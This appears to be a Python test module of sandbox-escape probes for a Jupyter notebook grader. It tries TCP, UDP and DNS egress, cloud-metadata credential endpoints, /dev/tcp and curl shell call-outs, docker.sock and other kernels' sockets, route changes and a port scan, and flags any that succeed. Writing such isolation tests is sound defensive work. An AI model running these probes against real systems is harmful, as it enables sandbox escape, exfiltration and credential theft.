"""Reaching anything but the notebook's own kernel."""

from __future__ import annotations

from attacks.kinds import code
from attacks.tools import (
    COURSE,
    HOME_OUTSIDE,
    HOST,
    MARK,
    PORT,
    TEMP_OUTSIDE,
    each,
    glob,
    json,
    look,
    os,
    reached,
    shell,
    socket,
)


@code("Calls a server on the grader's machine.")
def tcp_to_the_grader() -> None:
    for host in (HOST, "127.0.0.1", "localhost", "0.0.0.0", "::1"):
        try:
            with socket.create_connection((host, PORT), 1) as line:
                line.sendall(b"GET /tcp HTTP/1.0\r\n\r\n")
                reached(f"TCP {host}")
        except OSError as refusal:
            print(host, refusal)


@code("Sends datagrams to the grader's machine.")
def udp_to_the_grader() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.settimeout(1)
        for host in (HOST, "127.0.0.1"):
            try:
                line.sendto(b"udp", (host, PORT))
                print(line.recv(10))
                reached(f"UDP {host}")
            except OSError as refusal:
                print(host, refusal)


@code("Asks name servers, as a way to carry data out.")
def names_as_a_way_out() -> None:
    question = b"\x00\x01\x01\x00\x00\x01" + bytes(6) + b"\x07example\x03com\x00\x00\x01\x00\x01"
    for server in ("8.8.8.8", "1.1.1.1", "127.0.0.53", HOST):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
            line.settimeout(0.5)
            try:
                line.sendto(question, (server, 53))
                line.recv(512)
                reached(f"DNS {server}")
            except OSError as refusal:
                print(server, refusal)
    try:
        print(socket.getaddrinfo("example.com", 80))
        reached("a name")
    except OSError as refusal:
        print(refusal)


@code("Asks the machine's cloud for its credentials.")
def cloud_metadata() -> None:
    for host in ("169.254.169.254", "fd00:ec2::254", "169.254.170.2", "metadata.google.internal"):
        try:
            socket.create_connection((host, 80), 0.5)
            reached(host)
        except OSError as refusal:
            print(host, refusal)


@code("Lets other programs call out.")
def other_programs_call_out() -> None:
    told = shell(f"exec 3<>/dev/tcp/{HOST}/{PORT} && echo open; curl -m 1 http://{HOST}:{PORT}/")
    told += shell(f"bash -c 'echo x > /dev/tcp/{HOST}/{PORT}' && echo open")
    if "open" in told.split():
        reached("the grader by a shell")


@code("Calls a socket without a place in the file system.")
def abstract_socket() -> None:
    with socket.socket(socket.AF_UNIX) as line:
        line.connect(f"\0{MARK}")
        reached("an abstract socket")


@code("Calls sockets that lie in folders of the grader.")
def sockets_in_folders() -> None:
    places = [f"{TEMP_OUTSIDE}/socket", f"{HOME_OUTSIDE}/socket", f"{COURSE}/socket"]
    places += ["/var/run/docker.sock", "/run/dbus/system_bus_socket", *glob.glob("/tmp/**/*")]
    for path in places:
        with socket.socket(socket.AF_UNIX) as line:
            try:
                line.connect(path)
                reached(path)
            except OSError:
                continue


@code("Talks to other kernels by the files that Jupyter leaves.")
def other_kernels() -> None:
    for pattern in ("/**/kernel-*.json", f"{TEMP_OUTSIDE}/**/*.json", f"{HOME_OUTSIDE}/**/*.json"):
        for path in glob.iglob(pattern, recursive=True):
            if path.startswith(("/usr", "/proc", "/sys")):
                continue
            with open(path) as file:
                if "shell_port" in json.load(file):
                    reached(path)
    look(f"{HOME_OUTSIDE}/.local/share/jupyter/runtime")


@code("Speaks the languages of the kernel's other networks.")
def rare_networks() -> None:
    for family, kind in ((40, 1), (38, 5), (44, 3), (17, 3), (2, 3), (10, 3), (16, 3), (31, 3)):
        try:
            socket.socket(family, kind).close()
            if (family, kind) != (16, 3):
                reached(f"a socket of family {family}")
        except OSError as refusal:
            print(family, refusal)


@code("Gives its own network new addresses and ways out.")
def changes_the_network() -> None:
    each(
        [
            lambda: socket.sethostname("x"),
            lambda: shell("ip link set eth0 up; ip route add default dev lo"),
            lambda: socket.socket(16, 3, 0).bind((0, 0xFFFF)),
        ]
    )
    if os.path.isdir("/sys/class/net") and set(os.listdir("/sys/class/net")) - {"lo"}:
        reached("the network cards of the machine")


@code("Scans every port that it can see.")
def scans_ports() -> None:
    for port in range(1, 65_536, 7):
        with socket.socket() as line:
            line.settimeout(0.01)
            if line.connect_ex((HOST, port)) == 0:
                reached(f"port {port}")
                return
